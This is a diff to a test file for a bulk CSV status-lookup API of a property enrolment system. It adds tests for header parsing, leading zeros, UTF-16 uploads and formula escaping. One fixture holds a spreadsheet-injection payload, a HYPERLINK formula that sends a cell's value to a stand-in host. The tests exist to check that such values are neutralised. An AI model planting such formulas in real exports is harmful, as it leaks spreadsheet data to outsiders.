@@ -19,19 +19,25 @@ describe('POST /api/properties/status.csv: bulk status lookup', () => {
 
   beforeAll(async () => {
     const owner = await createOwner(t.db);
-    const [active, expired, pending, twice] = await insertEnrolments(t.db, [
+    const [active, expired, pending, twice, digits, formula] = await insertEnrolments(t.db, [
       enrolment(owner, { fullName: 'Ana Vigente Mora', properties: [farm({ sheetNumber: '2-111111-000' })] }),
       // approved 400 days ago: past its 12 months
       enrolment(owner, { fullName: 'Berta Vencida Solís', dateApproved: daysAgo(400), properties: [farm({ sheetNumber: '2-222222-000' })] }),
       enrolment(owner, { status: 'Presentada', dateApproved: undefined, properties: [farm({ sheetNumber: '2-333333-000' })] }),
       // one sheet number certified twice (two enrolments of one farm)
       enrolment(owner, { fullName: 'Carla Doble Rojas', properties: [farm({ sheetNumber: '2-111111-000', fantasyName: 'Otra parte' })] }),
+      // a sheet number of digits alone, as some are written
+      enrolment(owner, { fullName: 'Diana Dígitos Vega', properties: [farm({ sheetNumber: '123456' })] }),
+      // what an applicant may type: Excel must show it, never run it
+      enrolment(owner, { fullName: '=HYPERLINK("http://x.example/?"&A2;"Ver")', properties: [farm({ sheetNumber: '=1+1' })] }),
     ]);
     const idOf = async (enrolmentId: number) => (await t.db.select({ id: properties.id }).from(properties).where(eq(properties.enrolmentId, enrolmentId)))[0]!.id;
     ids.active = await idOf(active!);
     ids.expired = await idOf(expired!);
     ids.pending = await idOf(pending!);
     ids.twice = await idOf(twice!);
+    ids.digits = await idOf(digits!);
+    ids.formula = await idOf(formula!);
   });
 
   it('answers one row per number asked, in order: status, holder, dates and the public profile; unknown ones say so', async () => {
@@ -70,6 +76,35 @@ describe('POST /api/properties/status.csv: bulk status lookup', () => {
     ]);
   });
 
+  it('takes a first cell without digits as a header: a "certificado" column still finds sheet numbers, a bare one finds both', async () => {
+    const certificates = rowsOf((await lookup(t, `N.º de certificado\n${ids.active}\n2-222222-000\n`)).body).slice(1);
+    expect(certificates.map((row) => [row[0], row[1]])).toEqual([
+      [String(ids.active), String(ids.active)],
+      ['2-222222-000', String(ids.expired)],
+    ]);
+    // a short header and leading zeros
+    const bare = rowsOf((await lookup(t, `N.º\n${String(ids.active).padStart(10, '0')}\n123456\n`)).body).slice(1);
+    expect(bare.map((row) => [row[0], row[1]])).toEqual([
+      [String(ids.active).padStart(10, '0'), String(ids.active)],
+      ['123456', String(ids.digits)],
+    ]);
+    // a "finca" column never reads digits as a certificate number
+    const sheets = rowsOf((await lookup(t, `Finca\n${ids.active}\n`)).body).slice(1);
+    expect(sheets.map((row) => [row[0], row[3]])).toEqual([[String(ids.active), 'No encontrado']]);
+    // numbers beyond any certificate are simply not found
+    const huge = await lookup(t, '99999999999999999999\n');
+    expect(huge.statusCode).toBe(200);
+    expect(rowsOf(huge.body)[1]!.slice(0, 4)).toEqual(['99999999999999999999', '', '', 'No encontrado']);
+  });
+
+  it('never writes a cell Excel would run as a formula', async () => {
+    const response = await lookup(t, `certificado\n${ids.formula}\n=2+2\n`);
+    const rows = rowsOf(response.body).slice(1);
+    expect(rows[0]![2]).toBe("'=1+1");
+    expect(rows[0]![4]).toBe(`'=HYPERLINK("http://x.example/?"&A2;"Ver")`);
+    expect(rows[1]![0]).toBe("'=2+2");
+  });
+
   it('refuses an empty file, too many numbers and a body that is not CSV with Spanish messages', async () => {
     const empty = await lookup(t, 'certificado\n\n');
     expect(empty.statusCode).toBe(400);
@@ -81,6 +116,10 @@ describe('POST /api/properties/status.csv: bulk status lookup', () => {
     expect(broken.statusCode).toBe(400);
     expect(JSON.stringify(broken.json())).toContain(PORTFOLIO_MSG.bulkUnreadable);
     expect((await lookup(t, '{"ids":[1]}', 'application/json')).statusCode).toBe(400);
+    // saved by Excel as "Texto Unicode" (UTF-16): says how to save it instead
+    const utf16 = await t.app.inject({ method: 'POST', url: '/api/properties/status.csv', headers: { 'content-type': 'text/csv' }, payload: Buffer.from('certificado\n1\n', 'utf16le') });
+    expect(utf16.statusCode).toBe(400);
+    expect(JSON.stringify(utf16.json())).toContain(PORTFOLIO_MSG.bulkUnreadable);
   });
 
   it(`looks up ${BULK_LOOKUP_MAX_ROWS.toLocaleString('en')} numbers at once`, async () => {
